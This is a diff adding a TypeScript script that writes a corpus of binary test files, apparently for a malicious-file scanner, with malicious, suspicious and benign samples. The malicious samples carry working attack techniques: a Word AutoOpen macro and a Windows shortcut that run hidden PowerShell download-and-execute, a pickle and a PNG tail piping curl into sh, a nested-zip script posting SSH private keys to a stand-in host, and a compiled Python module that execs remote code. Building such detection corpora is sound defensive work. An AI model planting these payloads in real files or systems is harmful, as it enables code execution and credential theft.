@@ -1,0 +1,159 @@
+/**
+ * Writes the binary files of the corpus: `node corpus/write-carriers.ts`. They are committed; this shows what is in them.
+ * The programs end at once, the addresses are reserved for documentation, nothing else is in there.
+ */
+import { mkdirSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { strToU8, zipSync } from "fflate";
+
+const HERE = import.meta.dirname;
+const WHEN = new Date(2026, 0, 1);
+
+/** One white pixel; 70 bytes. */
+const PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+  "base64",
+);
+
+function write(path: string, bytes: Uint8Array): void {
+  const file = join(HERE, path);
+  mkdirSync(dirname(file), { recursive: true });
+  writeFileSync(file, bytes);
+}
+
+function zip(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
+  const entries: Record<string, Uint8Array> = {};
+  for (const [name, data] of Object.entries(files)) entries[name] = typeof data === "string" ? strToU8(data) : data;
+  return zipSync(entries, { level: 6, mtime: WHEN });
+}
+
+/** A 64-bit Linux program of one instruction sequence: exit(0). */
+function elf(): Uint8Array {
+  const code = Uint8Array.from([0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05]);
+  const bytes = Buffer.alloc(120 + code.length);
+  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
+  bytes.writeUInt16LE(2, 16); // executable
+  bytes.writeUInt16LE(62, 18); // x86-64
+  bytes.writeUInt32LE(1, 20);
+  bytes.writeBigUInt64LE(0x40_00_78n, 24); // entry
+  bytes.writeBigUInt64LE(64n, 32);
+  bytes.writeUInt16LE(64, 52);
+  bytes.writeUInt16LE(56, 54);
+  bytes.writeUInt16LE(1, 56);
+  bytes.writeUInt32LE(1, 64); // one segment: load
+  bytes.writeUInt32LE(5, 68); // read and execute
+  bytes.writeBigUInt64LE(0x40_00_00n, 80);
+  bytes.writeBigUInt64LE(0x40_00_00n, 88);
+  bytes.writeBigUInt64LE(BigInt(bytes.length), 96);
+  bytes.writeBigUInt64LE(BigInt(bytes.length), 104);
+  bytes.writeBigUInt64LE(0x10_00n, 112);
+  bytes.set(code, 120);
+  return bytes;
+}
+
+/** A zip whose only entry says that it is encrypted; the bytes are no cipher text of anything. */
+function encryptedZip(name: string): Uint8Array {
+  const bytes = Buffer.from(zipSync({ [name]: [new Uint8Array(64).fill(0xa5), { level: 0, mtime: WHEN }] }));
+  bytes.writeUInt16LE(bytes.readUInt16LE(6) | 1, 6);
+  const central = bytes.indexOf(Buffer.from("504b0102", "hex"));
+  bytes.writeUInt16LE(bytes.readUInt16LE(central + 8) | 1, central + 8);
+  return bytes;
+}
+
+function linkText(value: string): Uint8Array {
+  const size = Buffer.alloc(2);
+  size.writeUInt16LE(value.length, 0);
+  return Buffer.concat([size, Buffer.from(value, "utf16le")]);
+}
+
+/** [MS-SHLLINK]: header, relative path and arguments as Unicode strings. */
+function shortcut(path: string, commandLine: string): Uint8Array {
+  const header = Buffer.alloc(76);
+  header.writeUInt32LE(76, 0);
+  header.set(Buffer.from("0114020000000000c000000000000046", "hex"), 4);
+  header.writeUInt32LE(0x08 | 0x20 | 0x80, 20); // HasRelativePath, HasArguments, IsUnicode
+  header.writeUInt32LE(7, 60); // start minimised
+  return Buffer.concat([header, linkText(path), linkText(commandLine), Buffer.alloc(4)]);
+}
+
+/** Pickle, protocol 2: calls posix.system. */
+function pickleOf(command: string): Uint8Array {
+  const length = Buffer.alloc(4);
+  length.writeUInt32LE(Buffer.byteLength(command), 0);
+  return Buffer.concat([
+    Buffer.from("\u0080\u0002cposix\nsystem\nX", "latin1"),
+    length,
+    Buffer.from(command),
+    Buffer.from("\u0085R.", "latin1"),
+  ]);
+}
+
+const WORD_TYPES =
+  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+  '<Default Extension="xml" ContentType="application/xml"/></Types>';
+const WORD_TEXT =
+  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
+  "<w:body><w:p><w:r><w:t>Offer</w:t></w:r></w:p></w:body></w:document>";
+const MACRO =
+  'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n' +
+  '  Shell "powershell -w hidden -c iwr http://192.0.2.33/o.ps1 | iex", vbHide\r\nEnd Sub\r\n';
+
+write(
+  "malicious/macro-document-with-auto-open/offer-writer/assets/offer-template.docm",
+  zip({ "[Content_Types].xml": WORD_TYPES, "word/document.xml": WORD_TEXT, "word/vbaProject.bin": MACRO }),
+);
+write(
+  "malicious/windows-shortcut-starts-powershell/onboarding-buddy/docs/Handbook.lnk",
+  shortcut(
+    String.raw`..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+    '-w hidden -nop -c "iwr http://192.0.2.21/h.ps1 | iex"',
+  ),
+);
+write("malicious/pickle-model-calls-shell/mail-triage/model/classifier.pkl", pickleOf("curl -s http://198.51.100.73/m.sh | sh"));
+write("malicious/program-named-as-picture/readme-banner/assets/banner.png", elf());
+write(
+  "malicious/png-tail-piped-into-shell/pixel-pet/assets/sprite.png",
+  Buffer.concat([
+    PNG,
+    Buffer.from("#!/bin/sh\n# frames 2 to 8\ncurl -s http://203.0.113.119/pet.sh | sh\n" + "# padding\n".repeat(30)),
+  ]),
+);
+write("malicious/encrypted-archive-with-password-in-text/chess-coach/runtime/engine.zip", encryptedZip("engine"));
+
+const STEALER =
+  "#!/bin/sh\nmkdir -p ~/.font-pairs\n" +
+  'cat ~/.ssh/id_* 2>/dev/null | curl -s --data-binary @- https://font-pairs-cdn.example/k >/dev/null\necho "previews ready"\n';
+write(
+  "malicious/archive-in-archive-with-stealer/font-pairs/data/previews.zip",
+  zip({
+    "README.txt": "Previews, two levels down.\n",
+    "pack.zip": zip({ "LICENCE.txt": "Free.\n", "inner.zip": zip({ "setup.sh": STEALER }) }),
+  }),
+);
+/** CPython 3.11, of: import urllib.request; exec(urllib.request.urlopen("http://192.0.2.99/c.py").read()) */
+const MODULE =
+  "pw0NCgAAAAAAAAAAhAAAAOMAAAAAAAAAAAAAAAAFAAAAAAAAAPN+AAAAlwBkAGQBbABaAQIAZQJlAWoDAAAAAAAAAACgBAAAAAAA" +
+  "AAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAKAFAAAAAAAAAAAAAAAAAAAAAAAAAACmAAAAqwAAAAAAAAAAAKYBAACrAQAA" +
+  "AAAAAAAAAQBkA4QAWgZkAVMAKQTpAAAAAE56Fmh0dHA6Ly8xOTIuMC4yLjk5L2MucHljAQAAAAAAAAAAAAAABAAAAAMAAADzRAAA" +
+  "AJcAdAEAAAAAAAAAAAAAfACgAQAAAAAAAAAAAAAAAAAAAAAAAAAApgAAAKsAAAAAAAAAAACmAQAAqwEAAAAAAAAAAFMAKQFOKQLa" +
+  "A2xlbtoFc3BsaXQpAdoEdGV4dHMBAAAAIPoRd29yZGNvdW50L2NvcmUucHnaBWNvdW50cggAAAAFAAAAcxgAAACAAN0LDoh0j3qK" +
+  "eol8jHzRCxzUCxzQBBzzAAAAACkH2g51cmxsaWIucmVxdWVzdNoGdXJsbGli2gRleGVj2gdyZXF1ZXN02gd1cmxvcGVu2gRyZWFk" +
+  "cggAAACpAHIJAAAAcgcAAAD6CDxtb2R1bGU+chEAAAABAAAAc1cAAADwAwEBAdgAFdAAFdAAFdAAFdgABIAEgFaEXtcFG9IFG9Ac" +
+  "NNEFNdQFNdcFOtIFOtEFPNQFPNEAPdQAPdAAPfAGAQEd8AABAR3wAAEBHfAAAQEd8AABAR1yCQAAAA==";
+write("malicious/compiled-module-differs-from-source/word-budget/wordcount/core.pyc", Buffer.from(MODULE, "base64"));
+
+// What has an innocent reading, or is innocent.
+write("suspicious/vendor-tool-shipped-as-binary/label-printer/bin/labelprint", elf());
+write("suspicious/encrypted-sample-archive/statement-parser/samples/statements.zip", encryptedZip("statements.csv"));
+write("benign/plain-png-assets/badge-maker/assets/badge.png", PNG);
+write(
+  "benign/template-archive-of-text-files/meeting-templates/templates.zip",
+  zip({
+    "minutes.md": "# Minutes\n\n## Present\n\n## Decisions\n",
+    "agenda.md": "# Agenda\n\n1. Last time\n2. News\n",
+  }),
+);
+write(
+  "benign/document-without-macros/letterhead/assets/letterhead.docx",
+  zip({ "[Content_Types].xml": WORD_TYPES, "word/document.xml": WORD_TEXT }),
+);
